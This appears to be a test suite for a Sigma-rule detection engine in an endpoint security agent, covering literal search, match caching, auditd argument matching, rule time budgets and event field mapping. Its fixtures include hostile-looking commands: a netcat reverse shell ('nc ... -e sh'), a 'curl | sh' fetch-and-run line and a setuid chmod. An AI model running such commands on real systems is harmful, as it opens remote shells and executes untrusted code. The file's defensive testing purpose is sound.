import assert from 'node:assert/strict';
import fc from 'fast-check';
import { Detector } from '../../../../src/agent/detections/detector.ts';
import { LiteralSearch, searchTables, usable } from '../../../../src/agent/detections/engine/literal-search.ts';
import { MatchCache } from '../../../../src/agent/detections/engine/match-cache.ts';
import { subjectOf } from '../../../../src/agent/detections/subjects.ts';
import type { Duration } from '../../../../src/core/base/duration.ts';
import { fuzzRuns } from '../../../fuzz.ts';
import { heap, MEGABYTE } from '../flood.ts';
import { rulesOf, ruleWith, SetClock, subject } from '../rules.ts';

describe('the search for literals', () => {
  const letters = fc.string({ unit: fc.constantFrom('a', 'b', 'A', '/', '.', 'ä', '7'), minLength: 1, maxLength: 10 });

  it('finds exactly the literals in a text', () => {
    fc.assert(
      fc.property(
        fc.array(letters, { maxLength: 8 }),
        fc.string({ unit: fc.constantFrom('a', 'b', 'A', '/', '.', 'ä', '7'), maxLength: 60 }),
        (texts, line) => {
          const needed = texts
            .filter((text) => usable(text.toUpperCase()) !== '')
            .map((text, literal) => ({ text: text.toUpperCase(), literal, slot: literal % 2 }));
          const search = new LiteralSearch(searchTables(needed));
          for (const slot of [0, 1]) {
            const found = new Set<number>();
            search.search(line, slot, (literal) => found.add(literal));
            const own = needed.filter((each) => each.slot === slot && line.toUpperCase().includes(usable(each.text)));
            assert.deepEqual(
              [...found].sort((a, b) => a - b),
              own.map(({ literal }) => literal),
            );
          }
        },
      ),
      { numRuns: fuzzRuns(20_000) },
    );
  });
});

describe('the cache of matches', () => {
  const cacheOf = (sizeOf: (value: number) => number) => new MatchCache({ sizeOf, copy: (value) => value });

  it('keeps recently used entries, at most 2,048', () => {
    const cache = cacheOf(() => 0);
    cache.set('used', 1);
    let kept = 0;
    for (let i = 0; i < 10_000; i += 1) {
      cache.set(`k${i}`, i);
      assert.equal(cache.get('used'), 1);
    }
    for (let i = 0; i < 10_000; i += 1) if (cache.get(`k${9_999 - i}`) !== undefined) kept += 1;
    assert.ok(kept >= 1_000 && kept <= 2_048, `${kept}`);
  });

  it('keeps no long keys, and at most 2 M characters', () => {
    const cache = cacheOf(() => 0);
    cache.set('x'.repeat(4_097), 1);
    assert.equal(cache.get('x'.repeat(4_097)), undefined);
    let kept = 0;
    for (let i = 0; i < 1_000; i += 1) cache.set(`${i}${'x'.repeat(4_000)}`, i);
    for (let i = 0; i < 1_000; i += 1) if (cache.get(`${i}${'x'.repeat(4_000)}`) !== undefined) kept += 1;
    assert.ok(kept > 200 && kept <= 524, `${kept}`);
  });

  it('counts the size of values, and keeps no large ones', () => {
    const cache = cacheOf((value) => value);
    cache.set('x', 16_385);
    assert.equal(cache.get('x'), undefined);
    let kept = 0;
    for (let i = 0; i < 1_000; i += 1) cache.set(`k${i}`, 16_384);
    for (let i = 0; i < 1_000; i += 1) if (cache.get(`k${i}`) !== undefined) kept += 1;
    assert.ok(kept > 32 && kept <= 128, `${kept}`);
  });

  it('keeps no text from which a key was sliced', () => {
    const cache = cacheOf(() => 0);
    const before = heap();
    for (let i = 0; i < 200; i += 1) cache.set(`${i} ${'x'.repeat(100_000)}`.slice(0, 100), i);
    assert.ok(heap() - before < 2 * MEGABYTE);
    assert.equal(cache.get(`7 ${'x'.repeat(98)}`), 7);
  });
});

describe('the views of cached matches', () => {
  const rules = rulesOf(`title: Seen
name: seen
logsource: { category: process_creation }
detection: { s: { CommandLine|contains: /opt/x }, condition: s }
---
title: Often
correlation: { type: event_count, rules: [seen], group-by: [CommandLine], timespan: 1m, condition: { gt: 9 } }
`);
  /** A script whose commands have arguments of this length. */
  const script = (length: number, number: number) => {
    const commands = Array.from({ length: 20 }, (_, index) => `/opt/x${index} \${a}`).join('; ');
    const argv = ['sh', '-c', `a=${'ж'.repeat(length)}; ${commands}; : ${number}`];
    const payload = { Executable: '/usr/bin/dash', CommandLine: argv.join(' ') };
    const happened = subjectOf({ name: 'ProcessCreate', payload, time: 0, argv });
    assert.ok(happened);
    return happened;
  };
  const detector = () => new Detector({ rules, clock: new SetClock() });

  it('equal the views of the start', () => {
    const judging = detector();
    const { views } = script(100, 0);
    assert.ok(views.length > 10);
    for (let times = 0; times < 2; times += 1)
      assert.deepEqual(
        judging.match(script(100, 0)).matches.map((each) => each.views),
        [views.filter(({ CommandLine }) => CommandLine.includes('/opt/x'))],
      );
  });

  it('release the strings from which they were sliced', () => {
    const judging = detector();
    const before = heap();
    for (let number = 0; number < 200; number += 1) {
      const line = `/opt/x ${number} ${'x'.repeat(100_000)}`.slice(0, 100);
      const payload = { Executable: '/opt/x', CommandLine: line };
      const start = subjectOf({ name: 'ProcessCreate', payload, time: 0, argv: line.split(' ') });
      assert.ok(start);
      assert.equal(judging.match(start).matches.length, 1);
    }
    assert.ok(heap() - before < 3 * MEGABYTE);
  });

  for (const length of [1, 200])
    it(`limits their size with arguments of ${length} characters`, () => {
      const judging = detector();
      const before = heap();
      for (let number = 0; number < 2_000; number += 1) judging.match(script(length, number));
      const grown = heap() - before;
      assert.ok(grown < 5 * MEGABYTE, `${(grown / MEGABYTE).toFixed(1)} MB`);
      assert.equal(judging.skippedViews, 0);
    });
});

/** The same rules with and without literals: `cased` lists of one never change what matches. */
describe('candidates', () => {
  const texts = fc.constantFrom('ab', 'b/', '/a', 'aa', 'ba', 'A', 'x*b', '*', 'ä');
  const tests = fc
    .tuple(fc.constantFrom('F', 'F|contains', 'F|startswith', 'F|endswith', 'F|contains|cased', 'G|contains'), texts)
    .map(([key, text]) => `{ ${key}: "${text}" }`);
  const patterns = fc
    .constantFrom('a+b', '(ab|ba)x?', 'a.{0,2}b', '[ab]{2}/', '^a|b$', 'x?')
    .map((text) => `{ F|re|i: "${text}" }`);
  const selections = fc.array(fc.oneof(tests, patterns), { minLength: 3, maxLength: 3 });
  const conditions = fc.constantFrom(
    'a and b and c',
    'a or b or c',
    'a and (b or c)',
    'a and not b and c',
    '(a or b) and not c',
    'not a and b or c',
    '1 of them',
  );

  it('include all matching rules', () => {
    const lines = fc.string({ unit: fc.constantFrom('a', 'b', 'A', '/', 'x', 'ä'), maxLength: 8 });
    fc.assert(
      fc.property(
        fc.array(fc.tuple(selections, conditions), { minLength: 1, maxLength: 4 }),
        lines,
        lines,
        (all, F, G) => {
          const rule = ([[a, b, c], condition]: (typeof all)[number], id: string, more = '') =>
            ruleWith(
              `a: ${a}\nb: ${b}\nc: ${c}\n${more}condition: ${more === '' ? condition : `(${condition}) or never`}`,
              `id: ${id}\n`,
            );
          // An alternative without a literal makes a rule a candidate always.
          const fields = { F, G };
          const ids = (texts: readonly string[]) =>
            new Detector({ rules: rulesOf(...texts), clock: new SetClock() })
              .evaluate(subject(fields))
              .map((hit) => hit.rule.id);
          const selected = ids(all.map((each, index) => rule(each, `r${index}`)));
          const tried = ids(all.map((each, index) => rule(each, `r${index}`, 'never: { Z|exists: true }\n')));
          assert.deepEqual(selected, tried);
        },
      ),
      { numRuns: fuzzRuns(3_000) },
    );
  });
});

describe('long strings', () => {
  const start = (CommandLine: string) => {
    const happened = subjectOf({
      name: 'ProcessCreate',
      payload: { Executable: '/bin/x', CommandLine, ProcessId: 1 },
      time: 0,
    });
    assert.ok(happened);
    return happened;
  };
  const rule = (member: string) => `title: T
logsource: { category: process_creation }
detection:
  s: { ${member} }
  condition: s
`;
  const hits = (member: string, line: string) => {
    const detector = new Detector({ rules: rulesOf(rule(member)), clock: new SetClock() });
    return detector.evaluate({
      ...start(line),
      fields: start(line).fields,
      views: [{ Image: '/bin/x', CommandLine: line }],
    });
  };
  const long = (middle: string) => `x ${'a'.repeat(7_000)}${middle}${'b'.repeat(7_000)} end`;

  it('searches long strings completely for literals', () =>
    assert.equal(hits('CommandLine|contains: needle', long('needle')).length, 1));

  it('matches expressions in 6 KB of the head and 2 KB of the tail, which the hit reports', () => {
    assert.equal(hits('CommandLine|re: needle', long('needle')).length, 0);
    for (const member of ['CommandLine|re: "^x a+"', 'CommandLine|re: "b end$"'])
      assert.deepEqual(
        hits(member, long('')).map(({ cut }) => cut),
        [true],
      );
    assert.deepEqual(
      hits('CommandLine|re: end', 'the end').map(({ cut }) => cut),
      [undefined],
    );
  });
});

describe('keywords', () => {
  const rule = (words: string, source: string, id = 'words') =>
    `title: ${id}\nid: ${id}\nlogsource: ${source}\ndetection: { k: ${words}, condition: k }\n`;
  const connection = {
    Direction: 'Out',
    RemoteAddress: '203.0.113.5',
    RemotePort: '4443',
    Protocol: 'TCP',
    ProcessId: 77_001,
    Executable: '/usr/bin/curl',
  };
  const start = {
    Executable: '/usr/bin/tool',
    CommandLine: 'tool --fast',
    ProcessId: 77_001,
    ParentProcessId: 77_002,
    ExtraDetails: { CurrentDirectory: '/srv/data', Sha256: 'abcdef' },
  };
  const hits = (texts: readonly string[], name: string, ...payloads: readonly Record<string, unknown>[]) => {
    const detector = new Detector({ rules: rulesOf(...texts), clock: new SetClock() });
    return payloads.map((payload) => {
      const happened = subjectOf({ name, payload, time: 0 });
      assert.ok(happened);
      return detector.evaluate(happened).filter(({ rule: { id } }) => id === 'words').length;
    });
  };
  const CONNECTION = '{ category: network_connection }';
  const START = '{ category: process_creation }';

  it('search all fields of an event, regardless of the fields in other rules', () => {
    const other = rule('{ DestinationIp: 192.0.2.1 }', CONNECTION, 'other');
    for (const words of ['[203.0.113.5]', '[4443]', '[CURL]', '{ "|all": [203.0.113.5, 4443] }'])
      for (const texts of [[rule(words, CONNECTION)], [rule(words, CONNECTION), other]])
        assert.deepEqual(hits(texts, 'ConnectionCreate', connection), [1], words);
    for (const words of ['[srv/data]', '[abcdef]', '[--fast]', '{ "|all": [--fast, srv/data] }'])
      assert.deepEqual(hits([rule(words, START)], 'ProcessCreate', start), [1], words);
  });

  it("search neither process ids nor the event's name", () => {
    for (const words of ['[77001]', '[77002]', '[ProcessCreate]'])
      assert.deepEqual(hits([rule(words, START)], 'ProcessCreate', start), [0], words);
  });

  it('evaluates again if a field differs that no rule names', () => {
    const [one, two] = [{ ...connection, RemoteAddress: '192.0.2.9' }, connection];
    assert.deepEqual(hits([rule('[203.0.113.5]', CONNECTION)], 'ConnectionCreate', one, two, one), [0, 1, 0]);
  });
});

describe('rules on records of the kernel’s audit', () => {
  /** Whether a rule matches the start of a program with these arguments; whether their bounds are known. */
  const matches = (members: string, argv: readonly string[], { isExact = true, condition = 's' } = {}) => {
    const rule = `title: T
logsource: { product: linux, service: auditd }
detection:
  s: { ${members} }
  any: { type: EXECVE }
  condition: ${condition} or (s and any)
`;
    const payload = { Executable: `/usr/bin/${argv[0]}`, CommandLine: argv.join(' '), ProcessId: 1 };
    const start = subjectOf({ name: 'ProcessCreate', payload, time: 0, ...(isExact ? { argv } : {}) });
    assert.ok(start);
    return new Detector({ rules: rulesOf(rule), clock: new SetClock() }).evaluate(start).length > 0;
  };
  const chmod = ['chmod', '4755', '/tmp/x'];

  for (const [members, expected] of Object.entries({
    'type: EXECVE': true,
    'type: execve': true,
    'type: EXECVE, a0: chmod': true,
    'type: EXECVE, a0: chmod, a1|startswith: "4"': true,
    'type: EXECVE, a1: "4755"': true,
    'type: EXECVE, a1|re: "^4"': true,
    'type: EXECVE, a2|startswith: /tmp': true,
    'type: EXECVE, a0: chown': false,
    'type: EXECVE, a1|startswith: "5"': false,
    'type: EXECVE, a3: null': true,
  }))
    for (const isExact of [true, false])
      it(`${members} ${expected ? 'matches' : 'does not match'} a start ${isExact ? 'with' : 'without'} exact arguments`, () =>
        assert.equal(matches(members, chmod, { isExact }), expected));

  it('read the original arguments if their bounds are known', () => {
    const script = ['sh', '-c', 'curl x | sh'];
    assert.ok(matches('type: EXECVE, a2|contains: "curl x | sh"', script));
    assert.ok(!matches('type: EXECVE, a2|contains: "curl x | sh"', script, { isExact: false }));
    assert.ok(matches('type: EXECVE, a1: "/my longfilename"', ['cat', '/my longfilename']));
    assert.ok(!matches('type: EXECVE, a2: longfilename', ['cat', '/my longfilename']));
    assert.ok(matches('type: EXECVE, a2: longfilename', ['cat', '/my longfilename'], { isExact: false }));
  });

  it('match in conditions with several selections', () =>
    assert.ok(matches('a0: chmod', chmod, { condition: 'any and s' })));
});

describe('a hit', () => {
  const selections = (detection: string, fields: Record<string, string>) => {
    const detector = new Detector({ rules: rulesOf(ruleWith(detection)), clock: new SetClock() });
    return detector.evaluate(subject(fields)).map((hit) => hit.selections);
  };
  const condition =
    'one: { A|re: x+ }\ntwo: { A: y }\nthree: { B|re: [z+, w] }\nnone: { C: c }\n_own: { A: q }\ncondition:';

  it('contains the first matching alternative in the order of the condition', () => {
    const any = `${condition} one or (two and three) or three and not none or _own`;
    assert.deepEqual(selections(any, { A: 'x', B: 'zz' }), [['one']]);
    assert.deepEqual(selections(any, { A: 'y', B: 'w' }), [['two', 'three']]);
    assert.deepEqual(selections(any, { A: 'k', B: 'w' }), [['three']]);
    assert.deepEqual(selections(any, { A: 'q' }), [['_own']]);
    assert.deepEqual(selections(any, { A: 'k', B: 'w', C: 'c' }), []);
  });

  it('contains selections that a name pattern refers to', () => {
    assert.deepEqual(selections(`${condition} (1 of t* or one) and not (none or _own)`, { A: 'k', B: 'w' }), [
      ['three'],
    ]);
    assert.deepEqual(selections('s: { A: x }\ncondition: s', { A: 'x' }), [['s']]);
    assert.deepEqual(selections('s: { A: x }\ncondition: not s', { A: 'y' }), [[]]);
  });

  it('contains the selection again for a cached event', () => {
    const detector = new Detector({ rules: rulesOf(ruleWith('s: { A: x }\ncondition: s')), clock: new SetClock() });
    for (let n = 0; n < 2; n += 1) assert.deepEqual(detector.evaluate(subject({ A: 'x' }))[0]?.selections, ['s']);
  });

  it('contains the selection that the last event of a correlation matched', () => {
    const base = ruleWith('one: { A: x }\ntwo: { A: y }\ncondition: 1 of them', 'id: base\n');
    const correlation =
      'title: C\nid: c\ncorrelation: { type: event_count, rules: [base], group-by: [B], timespan: 1m, condition: { gte: 2 } }\n';
    const detector = new Detector({ rules: rulesOf(base, correlation), clock: new SetClock() });
    detector.evaluate(subject({ A: 'x', B: 'b' }));
    assert.deepEqual(detector.evaluate(subject({ A: 'y', B: 'b' }))[0]?.selections, ['two']);
  });
});

describe('the time budget of rules', () => {
  /** Advances whenever it is read. */
  class Slow extends SetClock {
    each = 0;
    override monotonic(): Duration {
      this.at += this.each;
      return this.at as Duration;
    }
  }
  const two = [
    ruleWith('s: { A|contains: slow }\ncondition: s', 'id: slow\n'),
    ruleWith('s: { A|contains: fast }\ncondition: s', 'id: fast\n').replace('title: T', 'title: F'),
  ];
  const ruleIds = (detector: Detector, A: string) => detector.evaluate(subject({ A })).map(({ rule }) => rule.id);

  it('does not share cached results between values with the same key text', () => {
    const rule = ruleWith('s: { A: x, B: null }\ncondition: s');
    const detector = new Detector({ rules: rulesOf(rule), clock: new SetClock() });
    const hits = (fields: Record<string, string>) => detector.evaluate(subject(fields)).length;
    const results = [hits({ A: 'x', B: '\x01' }), hits({ A: 'x' }), hits({ A: 'x\0\x01' }), hits({ A: 'x', B: '-' })];
    assert.deepEqual(results, [0, 1, 0, 0]);
  });

  it('disables and reports a rule above 50 ms per minute; others continue', () => {
    const clock = new Slow();
    const detector = new Detector({ rules: rulesOf(...two), clock });
    clock.each = 9;
    const long = 'x'.repeat(8_192);
    for (let i = 0; i < 12; i += 1) ruleIds(detector, `slow ${i}${long}`);
    clock.each = 0;
    assert.deepEqual(ruleIds(detector, 'slow fast'), ['fast']);
    assert.deepEqual(
      detector.rules.flatMap(({ rule, off }) => (off === undefined ? [] : [`${rule.facts.id}: ${off}`])),
      ['slow: time'],
    );
  });

  it('makes only a shipped rule above 50 ms per minute skip long strings until the minute ends', () => {
    const clock = new Slow();
    const rules = rulesOf(...two).map((rule) => ({ ...rule, facts: { ...rule.facts, origin: 'builtin' as const } }));
    const detector = new Detector({ rules, clock });
    const long = 'x'.repeat(8_192);
    const evaluationOf = (A: string) => detector.match(subject({ A }));
    clock.each = 9;
    for (let i = 0; i < 12; i += 1) evaluationOf(`slow ${i}${long}`);
    clock.each = 0;
    const attack = `slow fast ${long}`;
    assert.deepEqual(ruleIds(detector, 'slow fast'), ['slow', 'fast']);
    const { matches, isWhole } = evaluationOf(attack);
    assert.deepEqual([matches.map(({ rule }) => rule.facts.id), isWhole], [['fast'], false]);
    assert.ok(detector.skippedViews > 0);
    assert.deepEqual(
      detector.rules.map(({ off }) => off),
      [undefined, undefined],
    );
    clock.at += 60_000;
    assert.deepEqual(ruleIds(detector, attack), ['slow', 'fast']);
  });

  it("never makes a shipped rule skip a short start, regardless of its parent's command line", () => {
    const clock = new Slow();
    const onStarts = (title: string, selection: string) =>
      `title: ${title}\nlogsource: { product: linux, category: process_creation }\n` +
      `detection: { s: { ${selection} }, condition: s }\n`;
    const texts = [onStarts('Slow', 'CommandLine|contains: slow'), onStarts('Other', 'ParentCommandLine|contains: x')];
    const rules = rulesOf(...texts).map((rule) => ({ ...rule, facts: { ...rule.facts, origin: 'builtin' as const } }));
    const detector = new Detector({ rules, clock });
    const long = 'y'.repeat(8_192);
    const evaluationOf = (CommandLine: string) => {
      const payload = { Executable: '/usr/bin/tool', CommandLine, UserId: '1000' };
      const parent = { executable: '/bin/bash', commandLine: `bash ${long.slice(0, 4_000)}` };
      const of = subjectOf({ name: 'ProcessCreate', payload, time: 0, parent });
      return of === undefined ? [] : detector.evaluate(of).map(({ rule: { title } }) => title);
    };
    clock.each = 9;
    for (let i = 0; i < 20; i += 1) evaluationOf(`tool slow ${i}${long}`);
    clock.each = 0;
    assert.deepEqual(evaluationOf(`tool slow ${long}`), []);
    assert.deepEqual(evaluationOf('tool slow'), ['Slow']);
  });

  it('is charged by the length of the text, so that an unscheduled process disables no rules', () => {
    const clock = new Slow();
    const detector = new Detector({ rules: rulesOf(...two), clock });
    clock.each = 200;
    for (let i = 0; i < 100; i += 1) ruleIds(detector, `slow ${i}`);
    clock.each = 0;
    assert.deepEqual(ruleIds(detector, 'slow'), ['slow']);
  });

  it('grows by 10 µs per event, so that a burst of programs disables no rules', () => {
    const clock = new Slow();
    const detector = new Detector({ rules: rulesOf(...two), clock });
    clock.each = 0.008;
    for (let i = 0; i < 7_000; i += 1) ruleIds(detector, `slow ${i}`);
    clock.each = 0;
    assert.deepEqual(ruleIds(detector, 'slow'), ['slow']);
  });

  it('is charged for expressions that are rebuilt repeatedly, but not for the first build of each @release', () => {
    const clock = new Slow();
    // Each takes almost 1 MB.
    const letters = Array.from({ length: 960 }, (_, number) => String.fromCharCode(0x4e00 + 2 * number)).join('');
    const all = Array.from({ length: 12 }, (_, number) =>
      ruleWith(`s: { A|re: 'slow(?:${letters})?${number}?' }\ncondition: s`, `id: own${number}\n`).replace(
        'title: T',
        `title: T${number}`,
      ),
    );
    const off = (detector: Detector) => detector.rules.filter((rule) => rule.off !== undefined).length;
    clock.each = 400;
    const few = new Detector({ rules: rulesOf(...all.slice(0, 4)), clock });
    for (let i = 0; i < 5; i += 1) ruleIds(few, `slow ${i}`);
    assert.equal(off(few), 0);
    const many = new Detector({ rules: rulesOf(...all), clock });
    for (let i = 0; i < 5; i += 1) ruleIds(many, `slow ${i}`);
    assert.ok(off(many) > 0);
  });

  it('is reset after a minute', () => {
    const clock = new Slow();
    const detector = new Detector({ rules: rulesOf(...two), clock });
    const long = 'x'.repeat(8_192);
    for (let i = 0; i < 40; i += 1) {
      clock.each = 9;
      ruleIds(detector, `slow ${i}${long}`);
      clock.each = 0;
      clock.at += 20_000;
    }
    assert.deepEqual(ruleIds(detector, 'slow'), ['slow']);
  });
});

describe('fields of events', () => {
  const fields = (
    name: string,
    payload: Record<string, unknown>,
    parent?: { executable: string; commandLine?: string },
  ) => subjectOf({ name, payload, time: 0, parent })?.fields;

  it('names the fields of a start as in Sigma and in the payload', () => {
    const payload = {
      Executable: '/bin/x',
      CommandLine: 'x',
      ProcessId: 7,
      ParentProcessId: 3,
      UserId: '0',
      UserName: 'root',
      ExtraDetails: { Sha256: 'ab', LoginUserId: '1000', CurrentDirectory: '/tmp' },
    };
    assert.deepEqual(
      fields('ProcessCreate', payload, { executable: '/usr/sbin/nginx', commandLine: 'nginx: worker' }),
      {
        Executable: '/bin/x',
        Image: '/bin/x',
        CommandLine: 'x',
        ProcessId: '7',
        ParentProcessId: '3',
        UserId: '0',
        UserName: 'root',
        User: 'root',
        Sha256: 'ab',
        Hashes: 'SHA256=ab',
        LoginUserId: '1000',
        LogonId: '1000',
        CurrentDirectory: '/tmp',
        Event: 'ProcessCreate',
        ParentExecutable: '/usr/sbin/nginx',
        ParentImage: '/usr/sbin/nginx',
        ParentCommandLine: 'nginx: worker',
      },
    );
  });

  for (const [Direction, from, to] of [
    ['Out', 'Local', 'Remote'],
    ['In', 'Remote', 'Local'],
  ] as const)
    it(`includes source and destination of a connection (${Direction})`, () => {
      const all = fields('ConnectionCreate', {
        Direction,
        RemoteAddress: 'Remote',
        RemotePort: '1',
        LocalAddress: 'Local',
        LocalPort: '2',
        Executable: '/x',
      });
      assert.deepEqual(
        [all?.SourceIp, all?.DestinationIp, all?.Initiated, all?.RemoteAddress],
        [from, to, String(Direction === 'Out'), 'Remote'],
      );
    });

  it("includes the program of a multi-call binary and the user's name in a connection", () => {
    const payload = { Executable: '/bin/busybox', CommandLine: 'nc 192.0.2.1 4444 -e sh', UserId: '33' };
    const userNameOf = (userId: number) => (userId === 33 ? 'www-data' : undefined);
    const all = subjectOf({ name: 'ConnectionCreate', payload, time: 0, userNameOf })?.fields;
    assert.deepEqual([all?.Image, all?.User, all?.UserName], ['/bin/nc', 'www-data', 'www-data']);
    const payloadOnly = fields('ConnectionCreate', { ...payload, Executable: '/usr/bin/curl', UserId: '34' });
    assert.deepEqual([payloadOnly?.Image, payloadOnly?.User], ['/usr/bin/curl', undefined], 'argv[0] is not believed');
  });

  it('leaves a field empty if no event has set it', () => {
    for (const name of ['constructor', '__proto__', 'toString']) {
      const detector = new Detector({
        rules: rulesOf(ruleWith(`s: { ${name}|exists: true }\ncondition: s`)),
        clock: new SetClock(),
      });
      assert.equal(detector.evaluate(subject({ A: '1' })).length, 0, name);
    }
  });

  it("prevents a payload from overriding the agent's own fields", () => {
    const all = fields('ProcessCreate', {
      Executable: '/bin/x',
      CommandLine: 'x',
      ExtraDetails: { Executable: '/bin/y' },
    });
    assert.equal(all?.Image, '/bin/x');
  });
});
